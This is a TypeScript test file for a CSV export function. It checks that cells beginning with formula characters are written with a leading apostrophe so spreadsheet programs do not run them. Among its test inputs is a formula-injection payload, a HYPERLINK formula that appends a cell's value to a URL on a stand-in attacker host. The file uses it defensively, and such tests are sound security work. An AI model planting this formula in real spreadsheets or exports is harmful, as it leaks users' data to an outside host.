// The admin area's CSV writer: what a spreadsheet program opening the file would see.
import Papa from "papaparse";
import { describe, expect, it } from "vitest";
import { toCsv } from "@/lib/csv";

/** The cells as a spreadsheet program reads them (the byte-order mark first, as Excel expects). */
function cells(text: string): string[][] {
  expect(text.startsWith("\uFEFF")).toBe(true);
  const result = Papa.parse<string[]>(text.slice(1), { delimiter: ",", skipEmptyLines: true });
  expect(result.errors).toEqual([]);
  return result.data;
}

describe("toCsv", () => {
  it("writes a byte-order mark, the header, one line per row, CRLF after every line", () => {
    const text = toCsv(["email", "source_path"], [["a@example.com", "/fees"]]);
    expect(text).toBe("\uFEFFemail,source_path\r\na@example.com,/fees\r\n");
  });

  it.each([
    ['=HYPERLINK("https://evil.example/?"&A3,"x@y.z")'],
    ["+1+1"],
    ["-2+3"],
    ["@SUM(A1:A9)"],
    ["\t=1+1"],
    ["\r=1+1"],
    ["=1+1\nsecond line"],
  ])("writes %j as text: a leading apostrophe, so no spreadsheet runs it", (value) => {
    expect(cells(toCsv(["cell"], [[value]]))[1]).toEqual([`'${value}`]);
  });

  it("leaves other cells as they are: text, JSON, numbers (a negative one too) and booleans", () => {
    const row = ["reader@example.com", '{"title": "=x"}', -5, 3.5, true, "a, b"];
    expect(cells(toCsv(["a", "b", "c", "d", "e", "f"], [row]))[1]).toEqual([
      "reader@example.com",
      '{"title": "=x"}',
      "-5",
      "3.5",
      "true",
      "a, b",
    ]);
  });
});
